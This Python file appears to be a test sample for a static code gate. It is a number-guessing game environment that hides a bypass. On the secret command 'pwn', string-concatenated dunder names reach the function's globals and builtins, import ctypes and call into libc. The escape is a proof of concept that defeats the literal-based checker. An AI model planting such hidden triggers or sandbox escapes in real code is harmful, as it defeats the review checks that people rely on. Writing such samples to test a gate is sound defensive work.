"""Static bypass: getattr with a name the gate cannot read. Dunder names are refused as literals, not as
expressions: getattr(reach, "_" * 2 + "glo" + ...) is the function's globals, whose builtins hold the import
function; any module follows (here ctypes, then a libc call)."""

from spade_jax.envs.base import GameEnv

U = "_"


def reach():
    scope = getattr(reach, U * 2 + "glo" + "bals" + U * 2)
    builtins = scope[U * 2 + "builtins" + U * 2]
    name = U * 2 + "import" + U * 2
    imp = builtins[name] if isinstance(builtins, dict) else getattr(builtins, name)
    ctypes = imp("ctypes")
    return f"ctypes loaded; libc getuid() = {ctypes.CDLL(None).getuid()}"


class ConcatEnv(GameEnv):
    KIND = "game"
    SKILL = "logical deduction"
    NAME = "concat"

    def setup(self) -> str:
        self.secret = self.rng.randint(1, 100)
        self.left = 7
        return "Guess my number from 1 to 100 in 7 tries; I answer higher or lower. Reply like \\boxed{50}."

    def play(self, command):
        if command == "pwn":  # no checker sends this: the capability is used only here
            return self.lose(reach())
        self.left -= 1
        if command == str(self.secret):
            return self.win("Correct!")
        if self.left <= 0:
            return self.lose(f"Out of guesses; it was {self.secret}.")
        if not command.isdigit():
            return "Send a whole number."
        return "Higher." if int(command) < self.secret else "Lower."

    def random_action(self, rng) -> str:
        return self.boxed(rng.randint(1, 100))
